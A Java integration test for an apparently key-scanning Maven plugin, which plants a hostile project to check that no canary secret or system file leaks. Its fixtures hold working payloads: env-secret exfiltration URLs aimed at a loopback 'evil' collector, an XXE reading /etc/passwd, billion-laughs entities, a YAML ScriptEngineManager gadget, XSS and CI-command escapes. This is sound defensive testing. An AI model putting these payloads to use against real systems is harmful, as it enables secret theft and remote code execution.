package dev.keyguard.it;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.WireMockServer;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A stranger's pull request in a build that holds a key. It sends everything it can to a collector on the loopback,
 * reaches for files outside of it, and writes to the terminal. {@code docs/security.md} says what is defended.
 */
final class HostileIT {
    private static final String AWS = "wJalrXUtnFAKE0canary1aws2secret3MDENG4bPxRfi";
    private static final String OTHER = "typed-fake-canary-0d5f";
    private static final String OUTSIDE = "gpt-outside-canary-7b1e";
    private static final String WEB_HOOK = "https://hooks.example.com/services/T0FAKE/B0FAKE/canary5hook";

    /** What only counts where the pom is not the build's own: a build's own pom is code of it. */
    private static final String FOREIGN_BUILD = """
            <repositories>
              <repository><id>one</id><url>%1$s/${env.OPENAI_API_KEY}/${env.AWS_SECRET_ACCESS_KEY}</url></repository>
              <repository><id>two</id><url>%1$s/${openai.other}</url></repository>
              <repository><id>three</id><url>%1$s/plain</url></repository>
            </repositories>
            <dependencies>
              <dependency><groupId>hostile</groupId><artifactId>x</artifactId><version>${openai.other}</version></dependency>
              <dependency>
                <groupId>hostile</groupId><artifactId>s</artifactId><version>1</version>
                <scope>system</scope><systemPath>/etc/passwd</systemPath>
              </dependency>
            </dependencies>
            """;

    private final WireMockServer collector =
            new WireMockServer(options().bindAddress("127.0.0.1").dynamicPort());
    private final ModelServer gateway = new ModelServer();

    @BeforeEach
    void start() {
        collector.start();
        collector.stubFor(any(anyUrl())
                .willReturn(
                        aResponse().withStatus(200).withBody("{\"object\":\"list\",\"data\":[{\"id\":\"gpt-4o\"}]}")));
    }

    @AfterEach
    void stop() {
        collector.stop();
        gateway.close();
    }

    static Stream<Maven> mavens() {
        return Maven.stream();
    }

    @Test
    void as_a_project() throws Exception {
        Path outside = outside("hostile-project");
        Path checkout = checkout(outside.resolveSibling("checkout"), "");
        Map<String, String> before = snapshot(outside);
        for (String goal : List.of("verify", "scan", "models", "lock", "baseline", "report", "fix", "explain")) {
            Files.deleteIfExists(checkout.resolve("keyguard-baseline.json"));
            harmless(
                    Maven.any()
                            .run(
                                    checkout,
                                    environment(),
                                    Setup.PLUGIN + ":" + goal,
                                    "-X",
                                    "-Dkeyguard.model=gpt-4o",
                                    "-Dkeyguard.reports=console,json,html,sarif,junit,checkstyle,gitlab,github,cyclonedx"),
                    checkout,
                    goal);
        }
        assertThat(snapshot(outside)).isEqualTo(before);
    }

    @ParameterizedTest
    @MethodSource("mavens")
    void as_a_folder_whose_class_path_is_resolved(Maven maven) throws Exception {
        Path outside = outside("hostile-folder-" + maven.version());
        Path checkout = checkout(outside.resolveSibling("checkout"), FOREIGN_BUILD.formatted(collector.baseUrl()));
        Path start = Files.createDirectories(outside.resolveSibling("start"));
        Map<String, String> before = snapshot(outside);
        Maven.Run run = maven.run(
                start,
                environment(),
                Setup.PLUGIN + ":verify",
                "-Dkeyguard.directory=" + checkout,
                "-Dkeyguard.resolve=true",
                "-Dopenai.other=" + OTHER,
                "-Dkeyguard.reports=console,json,html,sarif,github",
                "-Dkeyguard.services=" + gateway.url());
        harmless(run, checkout, "directory");
        assertThat(run.output()).contains("poms could be built");
        assertThat(ReportFile.in(checkout).references()).anyMatch(line -> line.startsWith("gpt-4o "));
        assertThat(snapshot(outside)).isEqualTo(before);
    }

    @Test
    void links_out_of_the_tree_are_said_and_not_followed() throws Exception {
        Path outside = outside("hostile-links");
        Path checkout = Setup.empty("hostile-links/checkout");
        Files.writeString(checkout.resolve("a.properties"), "spring.ai.openai.chat.options.model=gpt-4o\n");
        Map<String, String> before = snapshot(outside);
        Files.createSymbolicLink(checkout.resolve("target"), outside);
        Maven.Run output = folder(checkout);
        assertThat(output.succeeded()).isFalse();
        assertThat(output.output()).contains("leads out of it").contains("keyguard.outputDirectory");
        Files.delete(checkout.resolve("target"));
        for (String name : List.of("keyguard.lock.json", "keyguard-baseline.json", "keyguard-suppressions.yml")) {
            Files.createSymbolicLink(checkout.resolve(name), outside.resolve("outside.yml"));
            Maven.Run run = folder(checkout);
            assertThat(run.succeeded()).as(name).isFalse();
            assertThat(run.output()).contains(name + " is a symbolic link").doesNotContain(OUTSIDE);
            Files.delete(checkout.resolve(name));
        }
        assertThat(snapshot(outside)).isEqualTo(before);
    }

    private Maven.Run folder(Path checkout) throws Exception {
        return Maven.any()
                .run(checkout.getParent(), environment(), Setup.PLUGIN + ":verify", "-Dkeyguard.directory=" + checkout);
    }

    private Map<String, String> environment() {
        return Map.of(
                "OPENAI_API_KEY",
                ModelServer.BETA,
                "OPENAI_BASE_URL",
                gateway.url(),
                "AWS_SECRET_ACCESS_KEY",
                AWS,
                "SLACK_WEBHOOK_URL",
                WEB_HOOK);
    }

    private void harmless(Maven.Run run, Path checkout, String what) throws IOException {
        assertThat(collector.getAllServeEvents()).as(what + run.output()).isEmpty();
        assertThat(gateway.authorizations()).as(what).allMatch(sent -> sent.equals("Bearer " + ModelServer.BETA));
        List<String> texts = new ArrayList<>(List.of(run.output()));
        assertThat(checkout.resolve("target")).as(what + run.output()).exists();
        try (Stream<Path> reports = Files.walk(checkout.resolve("target"))) {
            for (Path report : reports.filter(Files::isRegularFile).toList()) {
                texts.add(Files.readString(report, StandardCharsets.ISO_8859_1));
            }
        }
        assertThat(Files.readString(checkout.resolve("target/keyguard/keyguard.html")))
                .doesNotContain("<script>alert");
        for (String text : texts) {
            assertThat(text.contains(AWS) || text.contains(OTHER))
                    .as(what + " tells a secret")
                    .isFalse();
            assertThat(text.contains("canary5hook"))
                    .as(what + " tells a web hook")
                    .isFalse();
            assertThat(text.contains(OUTSIDE))
                    .as(what + " tells what is outside")
                    .isFalse();
            assertThat(text.contains("root:x:"))
                    .as(what + " tells a file of the system")
                    .isFalse();
            assertThat(text.chars().anyMatch(c -> c < ' ' && c != '\n' && c != '\r' && c != '\t'))
                    .as(what + " has control characters")
                    .isFalse();
            assertThat(text.lines().anyMatch(line -> line.startsWith("::set-output") || line.startsWith("##vso")))
                    .as(what + " commands the CI server")
                    .isFalse();
        }
    }

    private static Path outside(String name) throws IOException {
        Setup.empty(name);
        Path outside = Setup.empty(name + "/outside");
        Files.writeString(
                outside.resolve("outside.properties"), "spring.ai.openai.chat.options.model=" + OUTSIDE + "\n");
        Files.writeString(outside.resolve("outside.yml"), "spring.ai.openai.chat.options.model: " + OUTSIDE + "\n");
        Files.writeString(outside.resolve("Outside.java"), """
                class Outside {
                    Object o = com.openai.models.chat.completions.ChatCompletionCreateParams.builder().model("%s").build();
                }
                """.formatted(OUTSIDE));
        return outside;
    }

    private static Map<String, String> snapshot(Path folder) throws IOException {
        Map<String, String> all = new TreeMap<>();
        try (Stream<Path> files = Files.walk(folder)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                all.put(file.toString(), Files.readString(file) + Files.getLastModifiedTime(file));
            }
        }
        return all;
    }

    private Path checkout(Path root, String build) throws IOException {
        String evil = collector.baseUrl();
        write(root, "pom.xml", """
                <project xmlns="http://maven.apache.org/POM/4.0.0">
                  <modelVersion>4.0.0</modelVersion>
                  <groupId>hostile</groupId><artifactId>hostile</artifactId><version>1</version>
                  <properties>
                    <keyguard.services>%1$s/v1</keyguard.services>
                    <keyguard.keys>OPENAI_API_KEY=AWS_SECRET_ACCESS_KEY</keyguard.keys>
                    <OPENAI_BASE_URL>%1$s/v1</OPENAI_BASE_URL>
                    <openai.baseUrl>%1$s/v1</openai.baseUrl>
                    <http.proxyHost>127.0.0.1</http.proxyHost>
                  </properties>
                  %2$s
                </project>
                """.formatted(evil, build));
        write(
                root,
                ".mvn/maven.config",
                "-Dkeyguard.services=" + evil + "/v1\n-Dkeyguard.keys=OPENAI_API_KEY=AWS_SECRET_ACCESS_KEY\n");
        write(root, ".env", "OPENAI_BASE_URL=" + evil + "/v1\nOPENAI_API_KEY=${AWS_SECRET_ACCESS_KEY}\n");
        write(root, "keyguard.lock.json", """
                {"schemaVersion": 1, "tool": "keyguard \\u001b[31m", "keys": [{"key": "OPENAI_API_KEY", "service": "openai",
                 "baseUrl": "%s/v1", "profile": "openai", "checkedAt": "2026-11-25T00:00:00Z", "models": {"gpt-4o": null}}]}
                """.formatted(evil));
        write(
                root,
                "keyguard-suppressions.yml",
                "- model: \"gpt-4o\\e]0;x\"\n  path: \"" + "**/*a".repeat(60)
                        + "\"\n  reason: \"\\e[2J::set-output name=x::y\"\n");
        write(root, "src/main/resources/application.yml", """
                spring:
                  config:
                    import: "optional:file:../../../../outside/outside.yml,optional:file:/etc/passwd"
                  ai:
                    openai:
                      base-url: %1$s
                      api-key: ${AWS_SECRET_ACCESS_KEY}
                      chat:
                        options:
                          model: "gpt-4o\\e[31m\\n::set-output name=x::y"
                evil: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["%1$s/"]]]]
                """.formatted(evil));
        write(
                root,
                "src/main/resources/application.properties",
                "langchain4j.open-ai.chat-model.base-url=" + evil + "/v1\n"
                        + "langchain4j.open-ai.chat-model.api-key=${OPENAI_API_KEY}\n"
                        + "langchain4j.open-ai.chat-model.model-name=gpt-4o\n"
                        + "openai.api-key=${AWS_SECRET_ACCESS_KEY}\n");
        write(root, "src/main/resources/beans.xml", """
                <?xml version="1.0"?>
                <!DOCTYPE beans [<!ENTITY file SYSTEM "file:///etc/passwd"> <!ENTITY web SYSTEM "%1$s/dtd"> <!ENTITY %% out SYSTEM "%1$s/out"> %%out;
                  <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
                <beans><bean model="gpt-4o">&file;&web;&c;</bean></beans>
                """.formatted(evil));
        write(root, "src/main/java/hostile/Hostile.java", """
                package hostile;
                import com.openai.client.OpenAIClient;
                import com.openai.client.okhttp.OpenAIOkHttpClient;
                import com.openai.models.chat.completions.ChatCompletionCreateParams;
                @PropertySource("file:../outside/outside.properties")
                class Hostile {
                    @Value("${spring.ai.openai.chat.options.model}") String injected;
                    private static OpenAIClient to(String url, String key) {
                        return OpenAIOkHttpClient.builder().baseUrl(url).apiKey(key).build();
                    }
                    void all() {
                        ask(to("%1$s/v1", System.getenv("OPENAI_API_KEY")), "gpt-4o");
                        ask(to("%2$s", System.getenv("AWS_SECRET_ACCESS_KEY")), "gpt-4o");
                        ask(to("%2$s/../../", System.getenv("OPENAI_API_KEY")), "../../../steal");
                        ask(to(System.getenv("SLACK_WEBHOOK_URL"), System.getenv("OPENAI_API_KEY")), "gpt-4o");
                        ask(OpenAIOkHttpClient.builder().fromEnv().organization(System.getenv("AWS_SECRET_ACCESS_KEY"))
                                .baseUrl("%2$s").build(), "\\u001b[31m\\u0007\\r\\n::set-output name=x::y<script>alert(1)</script>");
                        ask(OpenAIOkHttpClient.fromEnv(), injected);
                    }
                    private static void ask(OpenAIClient client, String model) {
                        client.chat().completions().create(ChatCompletionCreateParams.builder().model(model).build());
                    }
                }
                """.formatted(evil, gateway.url()));
        Files.createSymbolicLink(root.resolve("src/main/java/linked"), root.resolveSibling("outside"));
        Files.createSymbolicLink(
                root.resolve("src/main/resources/linked.yml"), root.resolveSibling("outside/outside.yml"));
        Files.createSymbolicLink(root.resolve("src/main/resources/passwd.properties"), Path.of("/etc/passwd"));
        return root;
    }

    private static void write(Path root, String path, String text) throws IOException {
        Path file = root.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }
}
